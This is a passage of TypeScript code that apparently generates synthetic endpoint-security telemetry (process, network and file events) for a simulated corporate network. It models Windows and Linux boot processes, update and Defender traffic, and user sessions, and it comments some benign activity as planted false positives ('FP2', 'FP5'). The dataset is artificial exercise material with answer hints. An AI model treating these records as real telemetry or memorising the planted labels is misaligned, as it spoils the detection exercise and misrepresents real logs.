    return this.dev.windows ? this.rng.int(49152, 65535) : this.rng.int(32768, 60999);
  }

  net(p: Proc | null, us0: number, s: NetSpec): void {
    const us = this.jitter(us0);
    const action = s.action ?? 'ConnectionSuccess';
    const inbound = action === 'InboundConnectionAccepted' || action === 'ListeningConnectionCreated';
    const localPort = s.localPort ?? this.ephemeral();
    const bytesKnown = action === 'ConnectionSuccess' || action === 'ConnectionSuccessAggregatedReport' || action === 'InboundConnectionAccepted';
    const sup = this.common(us, action);
    Object.assign(sup, {
      RemoteIP: s.ip,
      RemotePort: s.port,
      RemoteUrl: s.url ?? '',
      LocalIP: this.dev.def.ip,
      LocalPort: localPort,
      Protocol: s.proto ?? 'Tcp',
      LocalIPType: ipType(this.dev.def.ip),
      RemoteIPType: ipType(s.ip),
      AdditionalFields: s.additional ? JSON.stringify(s.additional) : '',
      SentBytes: bytesKnown ? s.sent ?? this.rng.int(400, 9000) : action === 'ConnectionFailed' ? 0 : null,
      ReceivedBytes: bytesKnown ? s.recv ?? this.rng.int(900, 60_000) : action === 'ConnectionFailed' ? 0 : null,
    });
    initiating(sup, p, true);
    if (inbound) {
      // Inbound rows: the remote side is the client; the local port is the service's.
      sup.LocalPort = s.localPort ?? s.port;
      sup.RemotePort = s.localPort !== undefined ? s.port : this.ephemeral();
    }
    this.rows.push({ us, table: 'DeviceNetworkEvents', sup });
    if (s.tls && this.dev.windows && action === 'ConnectionSuccess') {
      const v = s.tlsVersion ?? (this.rng.chance(0.7) ? 'TLSv13' : 'TLSv12');
      const ts = us + this.rng.int(20_000, 400_000);
      const inspected = this.common(ts, 'SslConnectionInspected');
      Object.assign(inspected, {
        RemoteIP: s.ip, RemotePort: s.port, LocalIP: this.dev.def.ip, LocalPort: localPort, Protocol: 'Tcp',
        LocalIPType: ipType(this.dev.def.ip), RemoteIPType: ipType(s.ip),
        AdditionalFields: JSON.stringify({
          version: v, server_name: s.url ?? '', established: true, direction: 'Out',
          ja3: digest('md5', `ja3:${p?.name ?? ''}:${v}`), ja3s: digest('md5', `ja3s:${s.url ?? s.ip}:${v}`),
        }),
      });
      this.rows.push({ us: ts, table: 'DeviceNetworkEvents', sup: inspected });
    }
  }

  file(p: Proc, us0: number, s: FileSpec): void {
    const us = this.jitter(us0);
    const name = baseName(s.path);
    const prev = s.previousPath;
    const hashKey = `file:${s.path}:${s.size ?? 0}:${us}`;
    const hashed = s.action !== 'FileDeleted';
    const sup = this.common(us, s.action);
    Object.assign(sup, {
      FileName: name,
      FolderPath: s.path,
      SHA1: hashed ? digest('sha1', hashKey) : '',
      SHA256: hashed ? digest('sha256', hashKey) : '',
      MD5: hashed ? digest('md5', hashKey) : '',
      FileOriginUrl: s.originUrl ?? '',
      FileOriginReferrerUrl: s.referrer ?? '',
      FileOriginIP: s.originIp ?? '',
      PreviousFolderPath: prev ? prev.slice(0, prev.length - baseName(prev).length) : '',
      PreviousFileName: prev ? baseName(prev) : '',
      FileSize: s.size ?? null,
      RequestProtocol: this.dev.windows ? 'Local' : '',
      AdditionalFields: s.additional ? JSON.stringify(s.additional) : '',
      IsAzureInfoProtectionApplied: this.dev.windows ? false : null,
    });
    initiating(sup, p, false);
    if (s.size === undefined && hashed) sup.FileSize = null;
    this.rows.push({ us, table: 'DeviceFileEvents', sup });
  }

  event(p: Proc, us0: number, action: string, additional: Rec, extra: Rec = {}): void {
    const us = this.jitter(us0);
    const sup = this.common(us, action);
    initiating(sup, p, false);
    sup.AdditionalFields = JSON.stringify(additional);
    Object.assign(sup, extra);
    this.rows.push({ us, table: 'DeviceEvents', sup });
  }
}

/** The InitiatingProcess* columns for a process (empty for null: inspected traffic has no process). */
function initiating(sup: Rec, p: Proc | null, network: boolean): void {
  if (!p) return;
  const q = p.parent;
  const img = p.img;
  const created = (p.createdText ??= formatTime(p.created));
  Object.assign(sup, {
    InitiatingProcessAccountDomain: p.acct.domain,
    InitiatingProcessAccountName: p.acct.name,
    InitiatingProcessAccountSid: p.acct.sid,
    InitiatingProcessAccountUpn: p.acct.upn,
    InitiatingProcessAccountObjectId: p.acct.objectId,
    InitiatingProcessLogonId: p.logonId,
    InitiatingProcessIntegrityLevel: p.integrity,
    InitiatingProcessTokenElevation: p.elevation,
    InitiatingProcessSHA1: img.sha1,
    InitiatingProcessSHA256: img.sha256,
    InitiatingProcessMD5: img.md5,
    InitiatingProcessFileName: p.name,
    InitiatingProcessFileSize: img.size,
    InitiatingProcessVersionInfoCompanyName: img.company,
    InitiatingProcessVersionInfoProductName: img.product,
    InitiatingProcessVersionInfoProductVersion: img.version,
    InitiatingProcessVersionInfoInternalFileName: img.internal,
    InitiatingProcessVersionInfoOriginalFileName: img.original,
    InitiatingProcessVersionInfoFileDescription: img.description,
    InitiatingProcessId: p.pid,
    InitiatingProcessCommandLine: p.cmd,
    InitiatingProcessCreationTime: created,
    // Network events carry the folder path lower-cased on Windows, as the sensor reports it.
    InitiatingProcessFolderPath: network && p.windows ? p.path.toLowerCase() : p.path,
    InitiatingProcessParentId: q?.pid ?? null,
    InitiatingProcessParentFileName: q?.name ?? '',
    InitiatingProcessParentCreationTime: q ? (q.createdText ??= formatTime(q.created)) : null,
    InitiatingProcessSignerType: img.signer,
    InitiatingProcessSignatureStatus: img.signature,
    InitiatingProcessSessionId: p.session,
    IsInitiatingProcessRemoteSession: p.windows ? p.remote !== null : null,
    InitiatingProcessRemoteSessionDeviceName: p.remote?.device ?? '',
    InitiatingProcessRemoteSessionIP: p.remote?.ip ?? '',
    InitiatingProcessUniqueId: p.uid,
  });
}

// ---------------------------------------------------------------------------------------------
// Destinations

type Dest = readonly [url: string, ip: string];

const NET = {
  dc: '10.10.0.10',
  dc2: '10.10.0.11',
  fileServer: '10.10.5.15',
  jenkins: '10.10.6.5',
  forensics: '10.20.0.5',
  managedDmz: '203.0.113.10',
  dr: '198.51.100.200',
  artifacts: ['artifacts.corp.example', '192.0.2.40'] as Dest,
  packages: ['packages.corp.example', '192.0.2.41'] as Dest,
  vpnPool: '10.99.0.',
};

const MANAGED_SERVERS = ['10.10.5.22', '10.10.5.30', '10.10.5.40', '10.10.5.51', '10.10.5.52', '10.10.5.60'];

const BROWSING: Dest[] = [
  ['www.google.com', '142.250.179.196'], ['www.bing.com', '13.107.21.200'], ['login.microsoftonline.com', '20.190.159.73'],
  ['outlook.office.com', '52.97.146.162'], ['corpexample.sharepoint.com', '13.107.136.10'], ['www.linkedin.com', '13.107.42.14'],
  ['en.wikipedia.org', '185.15.59.224'], ['www.youtube.com', '142.250.179.206'], ['fonts.gstatic.com', '142.250.179.163'],
  ['docs.google.com', '142.250.179.174'], ['cdn.jsdelivr.net', '104.16.85.20'], ['www.bbc.co.uk', '151.101.0.81'],
  ['news.ycombinator.com', '209.216.230.207'], ['corp-example.atlassian.net', '104.192.142.20'], ['www.amazon.com', '18.244.20.123'],
  ['ajax.googleapis.com', '142.250.179.170'], ['static.xx.fbcdn.net', '157.240.201.15'], ['www.office.com', '52.98.86.82'],
  ['teams.microsoft.com', '52.113.194.132'], ['zoom.us', '170.114.52.2'],
];
const DEPT_BROWSING: Record<string, Dest[]> = {
  finance: [['www.xero.com', '104.18.9.227'], ['corp-example.netsuite.com', '216.136.168.10'], ['www.ecb.europa.eu', '23.52.72.193']],
  hr: [['corp-example.bamboohr.com', '3.226.186.120'], ['www.indeed.com', '104.18.35.156'], ['corp-example.workday.com', '198.105.73.10']],
  engineering: [['github.com', '140.82.121.4'], ['api.github.com', '140.82.121.6'], ['stackoverflow.com', '104.18.32.7'], ['registry.npmjs.org', '104.16.27.35'], ['learn.microsoft.com', '23.55.161.48']],
  sales: [['corp-example.my.salesforce.com', '101.53.168.20'], ['www.hubspot.com', '104.16.118.116'], ['www.linkedin.com', '13.107.42.14']],
  marketing: [['www.canva.com', '104.16.103.112'], ['analytics.google.com', '142.250.179.206'], ['business.facebook.com', '157.240.201.35']],
  it: [['portal.azure.com', '13.107.246.64'], ['admin.microsoft.com', '52.108.8.254'], ['security.microsoft.com', '20.190.190.195'], ['docs.microsoft.com', '23.55.161.48']],
  security: [['security.microsoft.com', '20.190.190.195'], ['attack.mitre.org', '104.21.3.127'], ['www.virustotal.com', '74.125.34.46'], ['github.com', '140.82.121.4']],
};

const MS_DEST = {
  defender: ['winatp-gw-weu.microsoft.com', '20.50.201.195'] as Dest,
  defender2: ['winatp-gw-neu.microsoft.com', '52.138.216.83'] as Dest,
  maps: ['wdcp.microsoft.com', '20.42.73.24'] as Dest,
  defs: ['definitionupdates.microsoft.com', '20.99.184.37'] as Dest,
  wu: ['fe2cr.update.microsoft.com', '20.72.235.82'] as Dest,
  wu2: ['slscr.update.microsoft.com', '20.12.23.50'] as Dest,
  wudl: ['2.tlu.dl.delivery.mp.microsoft.com', '13.107.4.50'] as Dest,
  edgeUpdate: ['msedge.api.cdp.microsoft.com', '13.107.246.57'] as Dest,
  onedrive: ['corpexample-my.sharepoint.com', '13.107.136.10'] as Dest,
  onedriveUpd: ['oneclient.sfx.ms', '13.107.253.57'] as Dest,
  outlook: ['outlook.office365.com', '52.97.212.34'] as Dest,
  teams: ['teams.microsoft.com', '52.113.194.132'] as Dest,
  teamsMedia: ['', '52.115.223.2'] as Dest,
  settings: ['settings-win.data.microsoft.com', '20.189.173.11'] as Dest,
  telemetry: ['v10.events.data.microsoft.com', '20.42.65.85'] as Dest,
};
const GOOGLE_UPDATE: Dest[] = [['update.googleapis.com', '142.250.185.3'], ['update.googleapis.com', '142.250.185.35']];

// ---------------------------------------------------------------------------------------------
// Boot state: long-lived processes started before the window

function setupDevice(def: DeviceDef, seed: string, t0: number): DevState {
  const rng = new Rng(`${seed}|device|${def.name}`);
  const big = rng.chance(0.4) || def.name === 'WS-FIN-03' || def.name === 'srv-db-02';
  const reportId = big ? 100_000_000_000_000_000n + BigInt(rng.int(0, 899_999_999)) * 1_000_000_000n + BigInt(rng.int(0, 999_999_999)) : BigInt(rng.int(2_000, 900_000));
  const d: DevState = {
    def, id: deviceIdOf(def.name), windows: def.os === 'Windows', reportId, nextPid: rng.int(900, 3000), procSeq: rng.int(1000, 90_000),
    rng, boot: {}, buildNo: 1000 + rng.int(0, 800),
  };
  if (def.user) d.user = domainUser(def.user);
  const day = new Day(d, rng, t0, -1, 1);
  const bootAt = t0 - rng.int(2, 12) * DAY - rng.int(0, DAY - 1);
  if (d.windows) {
    const system = day.proc(null, W.system, '', bootAt, { pid: 4, acct: SYSTEM });
    const smss = day.proc(system, W.smss, '\\SystemRoot\\System32\\smss.exe', bootAt + 2 * SEC);
    const wininit = day.proc(smss, W.wininit, 'wininit.exe', bootAt + 4 * SEC);
    const services = day.proc(wininit, W.services, 'C:\\Windows\\system32\\services.exe', bootAt + 5 * SEC);
    const lsass = day.proc(wininit, W.lsass, 'C:\\Windows\\system32\\lsass.exe', bootAt + 5 * SEC);
    const svc = (k: string, acct: Account, dt: number): Proc =>
      day.proc(services, W.svchost, `C:\\Windows\\system32\\svchost.exe ${k}`, bootAt + dt * SEC, { acct, logonId: acct === SYSTEM ? 999 : acct === LOCAL_SERVICE ? 997 : 996 });
    d.boot = {
      system, services, lsass,
      winlogon: day.proc(smss, W.winlogon, 'winlogon.exe', bootAt + 4 * SEC, { session: 1 }),
      schedule: svc('-k netsvcs -p -s Schedule', SYSTEM, 9),
      dnscache: svc('-k NetworkService -p -s Dnscache', NETWORK_SERVICE, 8),
      wuauserv: svc('-k netsvcs -p -s wuauserv', SYSTEM, 40),
      dcom: svc('-k DcomLaunch -p', SYSTEM, 6),
      termservice: svc('-k NetworkService -s TermService', NETWORK_SERVICE, 12),
      mssense: day.proc(services, W.mssense, '"MsSense.exe"', bootAt + 15 * SEC),
      msmpeng: day.proc(services, W.msmpeng, '"MsMpEng.exe"', bootAt + 11 * SEC),
    };
    if (def.role === 'admin' || def.role === 'security') {
      d.boot.veeam = day.proc(services, W.veeamservice, '"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe"', bootAt + 20 * SEC);
    }
  } else {
    const distro = def.distro ?? 'ubuntu';
    const L = linuxImages(distro);
    d.lx = L;
    const root = linuxAccount(def.name, 'root');
    const systemd = day.proc(null, L.systemd, '/sbin/init', bootAt, { pid: 1, acct: root });
    d.boot = {
      systemd,
      sshd: day.proc(systemd, L.sshd, 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', bootAt + 3 * SEC),
      cron: day.proc(systemd, L.cron, distro === 'rhel' ? '/usr/sbin/crond -n' : '/usr/sbin/cron -f -P', bootAt + 3 * SEC),
    };
    if (def.role === 'build') {
      d.boot.agent = day.proc(systemd, L.java, '/usr/bin/java -jar /opt/jenkins/agent.jar -url https://jenkins.corp.example/ -secret @/opt/jenkins/secret -name ' + def.name + ' -workDir /opt/jenkins', bootAt + 30 * SEC, { acct: linuxAccount(def.name, 'svc_ci') });
    }
    if (def.role === 'web' || def.role === 'app') {
      const master = day.proc(systemd, L.nginx, 'nginx: master process /usr/sbin/nginx -g daemon on; master_process on;', bootAt + 5 * SEC);
      d.boot.nginx = day.proc(master, L.nginx, 'nginx: worker process', bootAt + 5 * SEC, { acct: linuxAccount(def.name, 'www-data') });
      d.boot.gunicorn = day.proc(systemd, L.python, '/opt/app/venv/bin/python3 /opt/app/venv/bin/gunicorn app.wsgi -b 127.0.0.1:8000 -w 4', bootAt + 6 * SEC, { acct: linuxAccount(def.name, 'www-data') });
    }
    if (def.role === 'database') {
      d.boot.postmaster = day.proc(systemd, L.postmaster, '/usr/pgsql-15/bin/postmaster -D /var/lib/pgsql/15/data/', bootAt + 5 * SEC, { acct: linuxAccount(def.name, 'postgres') });
    }
  }
  return d;
}

function linuxImages(distro: 'ubuntu' | 'rhel'): Record<string, Image> {
  const u = distro === 'ubuntu';
  const ubuntuOrRhel = (a: string, b: string): string => (u ? a : b);
  return {
    systemd: lx('/usr/lib/systemd/systemd', distro),
    sshd: lx('/usr/sbin/sshd', distro),
    cron: lx(ubuntuOrRhel('/usr/sbin/cron', '/usr/sbin/crond'), distro),
    sh: lx(ubuntuOrRhel('/usr/bin/dash', '/usr/bin/bash'), distro),
    bash: lx('/usr/bin/bash', distro),
    sudo: lx('/usr/bin/sudo', distro),
    id: lx('/usr/bin/id', distro),
    tar: lx('/usr/bin/tar', distro),
    gzip: lx('/usr/bin/gzip', distro),
    rm: lx('/usr/bin/rm', distro),
    df: lx('/usr/bin/df', distro),
    ls: lx('/usr/bin/ls', distro),
    ps: lx('/usr/bin/ps', distro),
    systemctl: lx('/usr/bin/systemctl', distro),
    journalctl: lx('/usr/bin/journalctl', distro),
    scp: lx('/usr/bin/scp', distro),
    ssh: lx('/usr/bin/ssh', distro),
    sftp: lx('/usr/bin/sftp', distro),
    rsync: lx('/usr/bin/rsync', distro),
    curl: lx('/usr/bin/curl', distro),
    git: lx('/usr/bin/git', distro),
    gitRemoteHttps: lx('/usr/lib/git-core/git-remote-https', distro),
    rclone: lx('/usr/bin/rclone', 'rclone-v1.68.1-linux-amd64'),
    java: lx('/usr/lib/jvm/java-17-openjdk-amd64/bin/java', distro),
    node: lx('/usr/bin/node', distro),
    make: lx('/usr/bin/make', distro),
    python: lx(ubuntuOrRhel('/usr/bin/python3.10', '/usr/libexec/platform-python3.6'), distro),
    aptGet: lx('/usr/bin/apt-get', distro),
    aptHttp: lx('/usr/lib/apt/methods/http', distro),
    logrotate: lx('/usr/sbin/logrotate', distro),
    nginx: lx('/usr/sbin/nginx', distro),
    postmaster: lx('/usr/pgsql-15/bin/postgres', distro, 'postgres'),
    pgdump: lx('/usr/pgsql-15/bin/pg_dump', distro),
    runParts: lx('/usr/bin/run-parts', distro),
    collect: lx('/usr/local/bin/node_exporter_textfile.sh', distro),
    certbot: lx('/usr/bin/python3.10', distro),
  };
}

// ---------------------------------------------------------------------------------------------
// Windows days

interface Session {
  explorer: Proc;
  remote: RemoteSession | null;
  logonId: number;
  start: number;
  end: number;
  browser: Proc | null;
  netsvc: Proc | null;
}

function windowsDay(day: Day): void {
  const d = day.dev;
  const r = day.rng;
  const b = d.boot;
  const s = day.scale;

  // --- Background: services, updaters, Defender, DNS (day and night).
  for (let h = 0; h < 24; h++) {
    // DNS client, aggregated per hour.
    day.net(b.dnscache!, day.at(h, r.int(0, 59), r.int(0, 59)), {
      ip: NET.dc, port: 53, proto: 'Udp', action: 'ConnectionSuccessAggregatedReport', localPort: r.int(49152, 65535),
      additional: { uniqueEventsAggregated: Math.max(3, Math.round(r.int(20, 70) * s * (h >= 8 && h < 18 ? 3 : 1))) }, sent: null, recv: null,
    });
    // Defender sensor: cyber data upload, aggregated per hour.
    const gw = r.chance(0.8) ? MS_DEST.defender : MS_DEST.defender2;
    day.net(b.mssense!, day.at(h, r.int(0, 59), r.int(0, 59)), {
      ip: gw[1], port: 443, url: gw[0], action: 'ConnectionSuccessAggregatedReport',
      additional: { uniqueEventsAggregated: r.int(4, 30) }, sent: r.int(200_000, 2_500_000), recv: r.int(20_000, 200_000),
    });
    // GoogleUpdateTaskMachineUA (hourly task).
    if (r.chance(0.92)) {
      const t = day.at(h, r.int(0, 4), r.int(0, 59));
      const gu = day.spawn(b.schedule!, W.googleupdate, '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler', t);
      const dst = r.pick(GOOGLE_UPDATE);
      day.net(gu, t + r.int(1, 3) * SEC, { ip: dst[1], port: 443, url: dst[0], sent: r.int(1800, 4200), recv: r.int(2500, 9000), tls: r.chance(0.2) });
    }
    // MicrosoftEdgeUpdateTaskMachineUA (every 3 hours on the hour plus jitter).
    if (h % 3 === 1) {
      const t = day.at(h, r.int(5, 20), r.int(0, 59));
      const eu = day.spawn(b.schedule!, W.edgeupdate, '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler', t);
      day.net(eu, t + r.int(1, 4) * SEC, { ip: MS_DEST.edgeUpdate[1], port: 443, url: MS_DEST.edgeUpdate[0], sent: r.int(2000, 5000), recv: r.int(3000, 12_000) });
      if (r.chance(0.3)) day.net(eu, t + r.int(5, 9) * SEC, { ip: MS_DEST.edgeUpdate[1], port: 443, url: MS_DEST.edgeUpdate[0], action: 'ConnectionFailed' });
    }
  }
  // Defender signature updates and MAPS.
  for (const h of [r.int(0, 3), r.int(8, 11), r.int(16, 19)]) {
    const t = day.at(h, r.int(0, 59));
    const mp = day.spawn(b.schedule!, W.mpcmdrun, '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke', t);
    day.net(mp, t + 2 * SEC, { ip: MS_DEST.defs[1], port: 443, url: MS_DEST.defs[0], sent: r.int(3000, 8000), recv: r.int(80_000, 6_000_000) });
    const defDir = `C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{${guidOf(`${d.id}:${t}`).toUpperCase()}}`;
    day.file(mp, t + r.int(20, 40) * SEC, { action: 'FileCreated', path: `${defDir}\\mpasdlta.vdm`, size: r.int(20_000, 900_000) });
    day.file(mp, t + r.int(20, 40) * SEC, { action: 'FileCreated', path: `${defDir}\\mpavdlta.vdm`, size: r.int(20_000, 900_000) });
    day.net(b.msmpeng!, t + r.int(60, 3000) * SEC, { ip: MS_DEST.maps[1], port: 443, url: MS_DEST.maps[0], sent: r.int(2000, 40_000), recv: r.int(1000, 6000) });
  }
  // Windows Update scan and downloads.
  {
    const t = day.at(r.int(1, 5), r.int(0, 59));
    day.net(b.wuauserv!, t, { ip: MS_DEST.wu[1], port: 443, url: MS_DEST.wu[0], sent: r.int(20_000, 90_000), recv: r.int(200_000, 900_000) });
    day.net(b.wuauserv!, t + r.int(5, 40) * SEC, { ip: MS_DEST.wu2[1], port: 443, url: MS_DEST.wu2[0], sent: r.int(2000, 9000), recv: r.int(20_000, 80_000) });
    if (r.chance(0.35)) {
      day.net(b.wuauserv!, t + r.int(60, 600) * SEC, { ip: MS_DEST.wudl[1], port: 80, url: MS_DEST.wudl[0], sent: r.int(20_000, 60_000), recv: r.int(5_000_000, 90_000_000) });
      day.file(b.wuauserv!, t + r.int(600, 900) * SEC, {
        action: 'FileCreated', path: `C:\\Windows\\SoftwareDistribution\\Download\\${r.hex(32)}\\windows11.0-kb50${r.int(44000, 46999)}-x64.cab`, size: r.int(5_000_000, 90_000_000),
      });
    }
  }
  // Telemetry and settings.
  {
    const t = day.at(r.int(0, 23), r.int(0, 59));
    const ct = day.spawn(b.schedule!, W.compattel, 'C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:' + r.hex(16).slice(0, 22), t);
    day.net(ct, t + r.int(20, 200) * SEC, { ip: MS_DEST.telemetry[1], port: 443, url: MS_DEST.telemetry[0], sent: r.int(30_000, 400_000), recv: r.int(3000, 9000) });
  }
  for (let i = 0, n = r.int(3, 7); i < n; i++) {
    const t = day.between(0, 24);
    day.spawn(b.dcom!, W.wmiprvse, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', t);
  }
  // Kerberos and LDAP to the domain controller.
  for (let i = 0, n = r.int(4, 9); i < n; i++) {
    const t = day.between(0, 24);
    const port = r.pick([88, 389, 389, 445, 135]);
    day.net(b.lsass!, t, { ip: r.chance(0.85) ? NET.dc : NET.dc2, port, sent: r.int(1200, 6000), recv: r.int(1200, 9000) });
  }
  // FP5: the corporate software-catalogue check, a scheduled task that runs curl.exe twice a day.
  for (const h of [r.int(6, 7), r.int(18, 19)]) {
    const t = day.at(h, r.int(0, 59));
    const c = day.spawn(b.schedule!, W.cmd, 'C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\CorpIT\\update-check.cmd"', t);
    day.spawn(c, W.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', t + r.int(5, 40) * 1000);
    const tc = t + r.int(100, 900) * 1000;
    const cu = day.spawn(c, W.curl, `curl.exe -fsSL --ssl-no-revoke -o C:\\ProgramData\\CorpIT\\catalog.json https://${NET.packages[0]}/win/catalog.json`, tc);
    day.net(cu, tc + r.int(60, 300) * 1000, { ip: NET.packages[1], port: 443, url: NET.packages[0], sent: r.int(900, 1600), recv: r.int(40_000, 90_000), tls: true });
    day.file(cu, tc + r.int(400, 900) * 1000, { action: 'FileModified', path: 'C:\\ProgramData\\CorpIT\\catalog.json', size: r.int(40_000, 90_000) });
  }

  // Veeam Agent (FP2): nightly backup straight to the DR site's object storage over 443.
  if (b.veeam) veeamBackup(day);

  // --- The user's session.
  const def = d.def;
  if (!d.user) return;
  const works = day.weekend ? r.chance(def.weekendUse ?? 0.1) : true;
  if (!works) return;
  const sess = logon(day, day.weekend ? day.at(r.int(9, 13), r.int(0, 59)) : day.at(r.int(7, 8), r.int(0, 59)), day.weekend ? r.int(1, 4) : r.int(8, 10));
  userSession(day, sess);
  if (def.role === 'admin') adminWork(day, sess);
  if (def.role === 'security') securityWork(day, sess);
}

function logon(day: Day, start: number, hours: number, remote: RemoteSession | null = null, sessionId = 1): Session {
  const d = day.dev;
  const r = day.rng;
  const acct = d.user!;
  const logonId = r.int(300_000, 90_000_000);
  const elevation = d.def.role === 'admin' || d.def.role === 'security' ? 'TokenElevationTypeLimited' : 'TokenElevationTypeDefault';
  const ui = day.spawn(d.boot.winlogon!, W.userinit, 'C:\\Windows\\system32\\userinit.exe', start, { acct, logonId, integrity: 'Medium', elevation, session: sessionId, remote });
  const explorer = day.spawn(ui, W.explorer, 'C:\\Windows\\Explorer.EXE', start + r.int(1, 3) * SEC);
  day.spawn(d.boot.services!, W.sihost, 'sihost.exe', start + r.int(0, 2) * SEC, { acct, logonId, integrity: 'Medium', elevation, session: sessionId, remote });
  day.spawn(d.boot.dcom!, W.runtimebroker, 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', start + r.int(4, 20) * SEC, { acct, logonId, integrity: 'Medium', elevation, session: sessionId, remote });
  day.spawn(d.boot.schedule!, W.taskhostw, 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', start + r.int(2, 9) * SEC, { acct, logonId, integrity: 'Medium', elevation, session: sessionId, remote });
  if (remote) day.spawn(d.boot.termservice!, W.rdpclip, 'rdpclip', start + r.int(3, 8) * SEC, { acct, logonId, integrity: 'Medium', elevation, session: sessionId, remote });
  const sess: Session = { explorer, remote, logonId, start, end: start + hours * HOUR + r.int(0, 59) * MIN, browser: null, netsvc: null };
  day.sessions.push(sess);
  return sess;
}

function chromeLike(day: Day, sess: Session, t: number): void {
  const r = day.rng;
  const edge = day.dev.def.dept === 'finance' || day.dev.def.dept === 'hr' || r.chance(0.2);
  const img = edge ? W.msedge : W.chrome;
  const exe = img.path;
  const main = day.spawn(sess.explorer, img, `"${exe}" `, t);
  const fth = `--field-trial-handle=${r.int(1800, 2400)},i,${r.int(1e15, 9e15)},${r.int(1e15, 9e15)},262144`;
  day.spawn(main, img, `"${exe}" --type=gpu-process --no-pre-read-main-dll --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAIAAAAAAAAA --mojo-platform-channel-handle=${r.int(1900, 2100)} ${fth} /prefetch:2`, t + 200_000);
  sess.netsvc = day.spawn(main, img, `"${exe}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --no-pre-read-main-dll --mojo-platform-channel-handle=${r.int(2100, 2300)} ${fth} /prefetch:11`, t + 260_000);
  sess.browser = main;
  for (let i = 0, n = r.int(3, 8); i < n; i++) {
    day.spawn(main, img, `"${exe}" --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=${r.int(5, 60)} --time-ticks-at-unix-epoch=-${r.int(1e15, 9e15)} --launch-time-ticks=${r.int(1e8, 9e9)} --mojo-platform-channel-handle=${r.int(3000, 9000)} ${fth} /prefetch:1`, t + r.int(1, 3600) * SEC);
  }
}

function userSession(day: Day, sess: Session): void {
  const d = day.dev;
  const r = day.rng;
  const s = day.scale;
  const dept = d.def.dept ?? 'finance';
  const t = sess.start;
  const span = sess.end - sess.start;
  const inSession = (): number => t + Math.floor(r.next() * span);

  // Startup apps.
  const od = day.spawn(sess.explorer, W.onedrive, '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', t + r.int(5, 20) * SEC);
  const teams = day.spawn(sess.explorer, W.teams, `"${W.teams.path}" msteams:system-initiated`, t + r.int(8, 30) * SEC);
  day.spawn(sess.explorer, W.ctfmon, '"ctfmon.exe"', t + r.int(2, 6) * SEC);
  const mailClient = dept === 'marketing'
    ? day.spawn(sess.explorer, W.thunderbird, '"C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe" ', t + r.int(60, 900) * SEC)
    : day.spawn(sess.explorer, W.outlook, '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ', t + r.int(60, 900) * SEC);
  chromeLike(day, sess, t + r.int(120, 1800) * SEC);

  // Hourly aggregated reports for the chatty apps, one per hour in session.
  for (let h = 0; h * HOUR < span; h++) {
    const th = t + h * HOUR + r.int(0, 3599) * SEC;
    day.net(od, th, { ip: MS_DEST.onedrive[1], port: 443, url: MS_DEST.onedrive[0], action: 'ConnectionSuccessAggregatedReport', additional: { uniqueEventsAggregated: r.int(2, 25) }, sent: r.int(20_000, 900_000), recv: r.int(40_000, 2_000_000) });
    day.net(teams, th + r.int(1, 300) * SEC, { ip: MS_DEST.teams[1], port: 443, url: MS_DEST.teams[0], action: 'ConnectionSuccessAggregatedReport', additional: { uniqueEventsAggregated: r.int(5, 60) }, sent: r.int(50_000, 600_000), recv: r.int(100_000, 3_000_000) });
    if (mailClient.img === W.outlook) {
      day.net(mailClient, th + r.int(1, 600) * SEC, { ip: MS_DEST.outlook[1], port: 443, url: MS_DEST.outlook[0], action: 'ConnectionSuccessAggregatedReport', additional: { uniqueEventsAggregated: r.int(3, 20) }, sent: r.int(30_000, 3_000_000), recv: r.int(100_000, 8_000_000) });
    } else {
      day.net(mailClient, th + r.int(1, 600) * SEC, { ip: '103.168.172.46', port: 993, url: 'imap.fastmail.com', sent: r.int(3000, 20_000), recv: r.int(20_000, 4_000_000) });
    }
  }
  // Thunderbird sends mail over SMTP submission (587, STARTTLS): a mail client, with attachments.
  if (mailClient.img === W.thunderbird) {
    for (let i = 0, n = r.int(2, 6); i < n; i++) {
      day.net(mailClient, inSession(), { ip: '103.168.172.52', port: 587, url: 'smtp.fastmail.com', sent: r.chance(0.3) ? r.int(1_000_000, 9_000_000) : r.int(4000, 200_000), recv: r.int(2000, 6000) });
    }
  }
  // Files that come with the day: OneDrive sync, Outlook attachment previews, Teams logs.
  const u = d.user!.name;
  for (let i = 0, n = r.count(day.weekend ? 1 : 5); i < n; i++) {
    const name = r.pick(['notes', 'minutes', 'draft', 'figures', 'plan', 'summary', 'photo']) + '-' + r.int(1, 400) + r.pick(['.docx', '.xlsx', '.pdf', '.jpg', '.pptx']);
    day.file(od, inSession(), { action: r.chance(0.6) ? 'FileModified' : 'FileCreated', path: `C:\\Users\\${u}\\OneDrive - Corp Example\\Documents\\${name}`, size: r.int(20_000, 6_000_000) });
  }
  if (mailClient.img === W.outlook) {
    for (let i = 0, n = r.count(day.weekend ? 0.5 : 3); i < n; i++) {
      const name = r.pick(['invoice', 'PO', 'agenda', 'contract', 'quote', 'signed', 'scan']) + '_' + r.int(1000, 99999) + r.pick(['.pdf', '.pdf', '.docx', '.xlsx']);
